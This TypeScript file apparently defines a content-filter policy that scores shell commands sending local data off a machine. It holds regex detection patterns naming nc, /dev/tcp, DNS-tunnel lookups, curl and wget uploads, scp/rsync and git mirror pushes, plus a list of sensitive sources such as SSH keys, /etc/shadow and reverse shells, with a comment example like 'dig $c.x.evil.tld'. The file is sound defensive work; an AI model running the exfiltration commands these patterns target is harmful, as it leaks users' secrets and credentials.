import Type from 'typebox'
import { definePolicy } from '../../define-policy.js'
import { isOperatorRole } from '../../checks/roles.js'
import { matchesIn } from '../../checks/scan.js'
import type { Segment, Signal } from '../../types.js'
import { scrubbedEvidence } from './scrubbed-evidence.js'

// Shell sinks that carry local data off the machine. Each is one bounded, linear pattern
// over a single command line (no newline crossing).
// `… | nc host port`, `> /dev/tcp/host/port`: a raw socket.
const RAW_SOCKET = /\|\s{0,3}(?:nc|ncat|netcat|socat|telnet)\s[^|;&\n]{0,60}?\b(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,6})\s{1,3}\d{2,5}\b|\/dev\/(?:tcp|udp)\/[^\s\/]{1,253}\/\d{2,5}/gi
// DNS lookups whose name is built from a substitution: `dig $c.x.evil.tld`, `nslookup $(…).x.tld`.
const DNS_TUNNEL = /\b(?:dig|nslookup|host|drill|ping)\s[^|;&\n]{0,40}?(?:\$\([^()\n]{1,120}\)|\$\{?[A-Za-z_]\w{0,30}\}?|`[^`\n]{1,120}`)\.(?:[a-z0-9-]{1,63}\.){1,6}[a-z]{2,24}\b/gi
// An HTTP upload of a local file: `curl -F file=@x`, `curl -T x`, `--data-binary @x`, `wget --post-file=x`.
const FILE_UPLOAD = /\bcurl\s[^|;&\n]{0,200}?(?:-F\s{0,2}["']?[\w.-]{1,40}=@|-T\s|--upload-file\s|--data(?:-binary)?\s{1,3}["']?@)[^\s"']{1,200}|\bwget\s[^|;&\n]{0,120}?--post-file[=\s][^\s"']{1,200}/gi
// A repository pushed wholesale (--all, --mirror) to a remote the same command line adds.
const GIT_MIRROR = /\bgit\s{1,3}remote\s{1,3}add\s{1,3}([\w.-]{1,40})\s{1,3}(?:https?:\/\/|git@|ssh:\/\/)\S{1,200}[^\n]{0,80}?\bgit\s{1,3}push\s{1,3}(?:--\w+\s{1,3}){0,2}([\w.-]{1,40})\s{1,3}--(?:all|mirror)\b/gi
// `scp file user@host:` / `rsync … host:path` to a named remote.
const COPY_OUT = /\b(?:scp|rsync)\s[^|;&\n]{0,160}?\s[\w.-]{1,64}@[a-z0-9.-]{1,253}:\S{0,200}/gi

// What makes the carried data sensitive: keys, configs, secrets, databases, archives of
// a whole tree, the home directory, or an interactive shell (a reverse shell hands over
// the whole machine).
const SENSITIVE_SOURCE = /(?:\b(?:ba|z)?sh\s{1,3}-i\b|\/etc\/(?:passwd|shadow|kubernetes|ssl|ssh)|~\/\.(?:ssh|aws|kube|gnupg|docker|config)|\bid_(?:rsa|ed25519|ecdsa)\b|\.env\b|\.pem\b|\.key\b|\bsecrets?\b|\bcredentials?\b|\bkubeconfig\b|admin\.conf\b|\.sqlite3?\b|\.db\b|\bpg_dump\b|\bmysqldump\b|\btar\s{1,3}-?c\w{0,4}\s{1,3}\S{1,100}\s{1,3}(?:\.|~|\/|\$HOME)(?=\s|$|&|;))/i

const Params = Type.Object({
  sensitiveRisk: Type.Number({ default: 88, minimum: 0, maximum: 100, description: 'Risk of a shell sink (raw socket, DNS tunnel, file upload, push to a new remote) carrying keys, configs, databases or a whole tree.' }),
  tunnelRisk: Type.Number({ default: 85, minimum: 0, maximum: 100, description: 'Risk of a DNS lookup whose name is built from a command substitution: the data is the query.' }),
  sinkRisk: Type.Number({ default: 45, minimum: 0, maximum: 100, description: 'Risk of a shell sink with nothing sensitive named on its line (uploads to a service are common work).' }),
  indirectBonus: Type.Number({ default: 15, minimum: 0, maximum: 50, description: 'Added when the command sits in a tool result or document, where nobody the user trusts wrote it.' }),
}, { additionalProperties: false })

type P = { readonly sensitiveRisk: number, readonly tunnelRisk: number, readonly sinkRisk: number, readonly indirectBonus: number }

function lineAround (t: string, start: number, end: number): string {
  const a = t.lastIndexOf('\n', start - 1)
  const b = t.indexOf('\n', end)
  return t.slice(Math.max(0, a + 1, start - 300), b === -1 ? Math.min(t.length, end + 300) : Math.min(b, end + 300))
}

function judgeSink (seg: Segment, start: number, end: number, kind: string, p: P): Signal {
  const line = lineAround(seg.text, start, end)
  const tunnel = kind === 'DNS lookup built from a substitution'
  const sensitive = SENSITIVE_SOURCE.test(line)
  const base = sensitive ? p.sensitiveRisk : tunnel ? p.tunnelRisk : p.sinkRisk
  const risk = Math.min(100, base + (seg.role === 'user' ? 0 : p.indirectBonus))
  return {
    risk,
    reason: `shell command sends ${sensitive ? 'sensitive local data' : 'local data'} out through a ${kind}${seg.role === 'user' ? '' : ` (in a ${seg.role} message)`}`,
    evidence: scrubbedEvidence(seg, start, end),
    actions: ['external_send'],
  }
}

const SINKS: readonly (readonly [RegExp, string])[] = [
  [RAW_SOCKET, 'raw network socket'],
  [DNS_TUNNEL, 'DNS lookup built from a substitution'],
  [FILE_UPLOAD, 'file upload'],
  [COPY_OUT, 'remote copy'],
]

export default definePolicy({
  id: 'exfiltration.shell-send',
  category: 'exfiltration',
  phase: 'content',
  priority: 75,
  weight: 1,
  stages: ['request'],
  failMode: 'closed',
  description: 'Shell commands that carry local data off the machine: pipes into nc or /dev/tcp, DNS lookups built from substitutions, curl/wget file uploads, scp/rsync to a remote, pushing a repository to a remote the same line adds.',
  params: Params,
  decomposes: { limit: () => 1 },
  evaluate ({ input, params }) {
    let best: Signal | undefined
    const keep = (s: Signal): void => { if (best === undefined || s.risk > best.risk) best = s }
    for (const seg of input.segments) {
      if (isOperatorRole(seg.role) || seg.role === 'assistant') continue
      const l = seg.lower
      if (!(l.includes('nc ') || l.includes('cat ') || l.includes('/dev/') || l.includes('dig ') || l.includes('nslookup') || l.includes('host ') || l.includes('ping ') || l.includes('drill ') || l.includes('curl') || l.includes('wget') || l.includes('scp ') || l.includes('rsync') || l.includes('git '))) continue
      for (const [re, kind] of SINKS) {
        for (const m of matchesIn(re, seg.text, 16)) keep(judgeSink(seg, m.index, m.index + m[0].length, kind, params))
      }
      for (const m of matchesIn(GIT_MIRROR, seg.text, 8)) {
        if ((m[1] ?? '').toLowerCase() !== (m[2] ?? '').toLowerCase()) continue
        keep({
          risk: Math.min(100, params.sensitiveRisk - 18 + (seg.role === 'user' ? 0 : params.indirectBonus)),
          reason: `shell command adds a remote and pushes the repository to it${seg.role === 'user' ? '' : ` (in a ${seg.role} message)`}`,
          evidence: scrubbedEvidence(seg, m.index, m.index + m[0].length),
          actions: ['external_send'],
        })
      }
    }
    return best === undefined ? [] : [best]
  },
})
